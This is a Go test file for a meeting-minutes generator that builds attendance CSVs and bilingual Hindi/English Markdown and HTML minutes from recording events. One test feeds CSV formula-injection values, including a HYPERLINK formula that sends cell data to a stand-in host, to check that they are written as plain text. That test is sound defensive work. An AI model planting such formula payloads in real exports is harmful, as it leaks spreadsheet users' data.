package minutes

import (
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/samvad/samvad/recording"
)

// A folder with a manifest but no events at all (the recorder died before
// its first line): every room absent, every file still written.
func TestBuildWithoutEvents(t *testing.T) {
	dir := fixture(t, false)
	if err := os.Remove(filepath.Join(dir, "events.jsonl")); err != nil {
		t.Fatal(err)
	}
	res := build(t, dir)
	if len(res.Skipped) == 0 {
		t.Error("a missing events.jsonl is not reported")
	}
	csv := readFile(t, filepath.Join(dir, AttendanceFile))
	if n := strings.Count(csv, ",absent,"); n != 9 {
		t.Errorf("%d absent rows, want 9:\n%s", n, csv)
	}
	md := readFile(t, filepath.Join(dir, MinutesFile))
	if !strings.Contains(md, "0 of 9 rooms attended; 9 absent.") {
		t.Errorf("minutes.md:\n%s", md)
	}
	if page := readFile(t, filepath.Join(dir, PageFile)); !strings.Contains(page, "No room spoke.") {
		t.Error("minutes.html does not say that no room spoke")
	}
}

// A room the meeting file does not know (the bot took its meeting from a
// server that has more rooms) is in the page and the draft, flagged, but
// not in attendance.csv, whose rows are the configured rooms.
func TestUnconfiguredRoom(t *testing.T) {
	s := Summarize(testMeeting(), at("13:58:00"), at("15:00:00"), []recording.Event{
		ev("14:00:00", "joined", "guest-1", "s1"),
		ev("14:01:00", "speaking_started", "guest-1", "s1"), ev("14:02:00", "speaking_stopped", "guest-1", "s1"),
	})
	if csv := string(attendanceCSV(s)); strings.Contains(csv, "guest-1") {
		t.Errorf("attendance.csv has an unconfigured room:\n%s", csv)
	}
	if md := string(minutesMD(s, files{})); !strings.Contains(md, "## 1. guest-1\n\nबैठक की फ़ाइल में नहीं / not in the meeting file") || !strings.Contains(md, "- 14:01:00 · 1 मिनट / 1m00s") {
		t.Errorf("minutes.md lacks the unconfigured room's section:\n%s", md)
	}
	page, err := minutesHTML(s, files{})
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(string(page), `guest-1</span> <em class="guest">(<span lang="hi">बैठक की फ़ाइल में नहीं</span> not in the meeting file)</em>`) {
		t.Error("minutes.html does not flag the unconfigured room")
	}
	// A guest that gave a name (a LiveKit participant's) is shown by it.
	named := ev("14:00:00", "joined", "guest-1", "s1")
	named.Name = "Block committee, Jama"
	s = Summarize(testMeeting(), at("13:58:00"), at("15:00:00"), []recording.Event{named})
	if page, _ := minutesHTML(s, files{}); !strings.Contains(string(page), `Block committee, Jama</span> <em class="guest">`) {
		t.Error("minutes.html does not show the guest by the name it gave")
	}
}

func TestMarkdownEscapes(t *testing.T) {
	m := testMeeting()
	m.Title = "*Samvad* [draft] | #1"
	m.Rooms[0].Name = "A_b <x>"
	s := Summarize(m, at("13:58:00"), at("15:00:00"), nil)
	md := string(minutesMD(s, files{}))
	for _, want := range []string{`# \*Samvad\* \[draft\] \| \#1`, `| A\_b \<x\> |`} {
		if !strings.Contains(md, want) {
			t.Errorf("minutes.md lacks %q:\n%s", want, md)
		}
	}
}

func TestTicks(t *testing.T) {
	loc := time.FixedZone("", 5*3600+1800)
	start := time.Date(2023, 11, 21, 13, 58, 17, 0, loc)
	var got []string
	for _, tk := range ticks(start, start.Add(3*time.Hour), loc) {
		got = append(got, tk.In(loc).Format("15:04"))
	}
	if want := "14:00 14:15 14:30 14:45 15:00 15:15 15:30 15:45 16:00 16:15 16:30 16:45"; strings.Join(got, " ") != want {
		t.Errorf("ticks %v, want %s", got, want)
	}
	got = nil
	for _, tk := range ticks(start, start.Add(90*time.Second), loc) {
		got = append(got, tk.In(loc).Format("15:04:05"))
	}
	if want := "13:58:20 13:58:30 13:58:40 13:58:50 13:59:00 13:59:10 13:59:20 13:59:30 13:59:40"; strings.Join(got, " ") != want {
		t.Errorf("ticks in 90 s from 13:58:17: %v, want %s", got, want)
	}
	// Under a minute: an axis all the same (seconds apart).
	got = nil
	for _, tk := range ticks(start, start.Add(12*time.Second), loc) {
		got = append(got, tk.In(loc).Format("15:04:05"))
	}
	if want := "13:58:17 13:58:18 13:58:19 13:58:20 13:58:21 13:58:22 13:58:23 13:58:24 13:58:25 13:58:26 13:58:27 13:58:28 13:58:29"; strings.Join(got, " ") != want {
		t.Errorf("ticks in 12 s from 13:58:17: %v, want %s", got, want)
	}
}

func TestClockFormats(t *testing.T) {
	day := 24 * time.Hour
	for d, want := range map[time.Duration]string{
		0: "0s", 400 * time.Millisecond: "<1s", 1500 * time.Millisecond: "2s", 59 * time.Second: "59s",
		61 * time.Second: "1m01s", time.Hour + 2*time.Minute + 7*time.Second: "1h02m07s",
		23*time.Hour + 59*time.Minute + 59*time.Second: "23h59m59s",
		day + 2*time.Hour + 3*time.Minute:              "1 day 2h03m",
		// samvad run on the demo file three years after its starts_at.
		26565*time.Hour + 13*time.Minute + 8*time.Second: "1106 days 21h13m",
	} {
		if got := human(d); got != want {
			t.Errorf("human(%v) = %q, want %q", d, got, want)
		}
	}
	for d, want := range map[time.Duration]string{
		0: "0 सेकंड", 400 * time.Millisecond: "1 सेकंड से कम", 45 * time.Second: "45 सेकंड",
		61 * time.Second: "1 मिनट 1 सेकंड", 5 * time.Minute: "5 मिनट",
		time.Hour + 2*time.Minute + 7*time.Second: "1 घंटा 2 मिनट 7 सेकंड", 2 * time.Hour: "2 घंटे",
		day + time.Hour: "1 दिन 1 घंटा", 26565*time.Hour + 13*time.Minute + 8*time.Second: "1106 दिन 21 घंटे 13 मिनट",
	} {
		if got := humanHi(d); got != want {
			t.Errorf("humanHi(%v) = %q, want %q", d, got, want)
		}
	}
	start := at("13:58:00.500")
	// To the millisecond, so a link starts on the turn, not up to a second
	// before it.
	for clock, want := range map[string]string{"14:02:07.200": "246.7", "14:02:06.500": "246", "14:02:06.523": "246.023", "13:58:00.000": "0"} {
		if got := seek(at(clock), start); got != want {
			t.Errorf("seek(%s) = %q, want %q", clock, got, want)
		}
	}
	if got := sheetTime(time.Time{}, ist); got != "" {
		t.Errorf("sheetTime(zero) = %q", got)
	}
	if got := sheetTime(at("14:02:07").UTC(), ist); got != "2023-11-21 14:02:07+05:30" {
		t.Errorf("sheetTime in the meeting's zone = %q", got)
	}
	if got := longDate(at("14:02:07").UTC(), ist); got != (Words{"मंगलवार, 21 नवंबर 2023", "Tuesday, 21 November 2023"}) {
		t.Errorf("longDate = %q", got)
	}
	// A recording past midnight has both dates.
	if got := span(at("23:50:00"), at("23:50:00").Add(20*time.Minute), ist).En; got != "Tuesday, 21 November 2023, 23:50:00 to Wednesday, 22 November 2023, 00:10:00" {
		t.Errorf("span over midnight = %q", got)
	}
}

// TestAttendanceFormulas: names from the meeting file that a spreadsheet
// would run as formulas are written as text.
func TestAttendanceFormulas(t *testing.T) {
	m := testMeeting()
	m.Rooms = append(m.Rooms, recording.Room{ID: "c", Kind: "district"}, recording.Room{ID: "d", Kind: "district"})
	m.Rooms[0].Name = `=HYPERLINK("http://x.example/?"&A1,"click")`
	m.Rooms[0].NameHi = "+1"
	m.Rooms[1].Name = "@SUM(A1)"
	m.Rooms[1].Location = "-2+3"
	m.Rooms[2].Name = "\t=1+1"
	m.Rooms[3].Name = "Dumka - Jama block" // a dash inside is fine
	csv := string(attendanceCSV(Summarize(m, at("13:58:00"), at("15:00:00"), nil)))
	for _, want := range []string{`"'=HYPERLINK(""http://x.example/?""&A1,""click"")"`, ",'+1,", ",'@SUM(A1),", ",'-2+3,", "'\t=1+1", ",Dumka - Jama block,"} {
		if !strings.Contains(csv, want) {
			t.Errorf("attendance.csv lacks %q:\n%s", want, csv)
		}
	}
}

// TestAttendanceAudio: attendance.csv's audio_s shows a room that was
// connected but never heard, and how long a room was heard.
func TestAttendanceAudio(t *testing.T) {
	m := testMeeting()
	m.Rooms = append(m.Rooms, recording.Room{ID: "c", Kind: "district", Name: "C"})
	silent := ev("14:00:00", "audio_stopped", "a", "")
	silent.Reason = "no_packets"
	muted := ev("14:10:00", "audio_stopped", "b", "")
	muted.Reason = "muted"
	s := Summarize(m, at("14:00:00"), at("15:00:00"), []recording.Event{
		ev("14:00:00", "joined", "a", ""), silent, // connected all along, never heard
		ev("14:00:00", "joined", "b", ""), muted, ev("14:25:00", "audio_started", "b", ""), ev("14:40:00", "left", "b", ""),
	})
	rows := strings.Split(string(attendanceCSV(s)), "\r\n")
	for i, want := range []string{
		"a,A,,district,,present,2023-11-21 14:00:00+05:30,,3600,0,0,0",
		"b,B,,district,,left_early,2023-11-21 14:00:00+05:30,2023-11-21 14:40:00+05:30,2400,0,0,1500",
		"c,C,,district,,absent,,,0,0,0,0",
	} {
		if rows[i+1] != want {
			t.Errorf("row %d is %q, want %q", i+1, rows[i+1], want)
		}
	}
}

// TestShortTimeline: a recording under a minute still has a time axis, in
// seconds.
func TestShortTimeline(t *testing.T) {
	s := Summarize(testMeeting(), at("14:00:00.400"), at("14:00:40"), []recording.Event{
		ev("14:00:01", "joined", "a", ""), ev("14:00:05", "speaking_started", "a", ""), ev("14:00:09", "speaking_stopped", "a", ""),
	})
	var labels []string
	for _, tk := range timeline(s).Ticks {
		labels = append(labels, tk.Label)
	}
	if want := "14:00:05 14:00:10 14:00:15 14:00:20 14:00:25 14:00:30 14:00:35 14:00:40"; strings.Join(labels, " ") != want {
		t.Errorf("ticks %v, want %s", labels, want)
	}
}
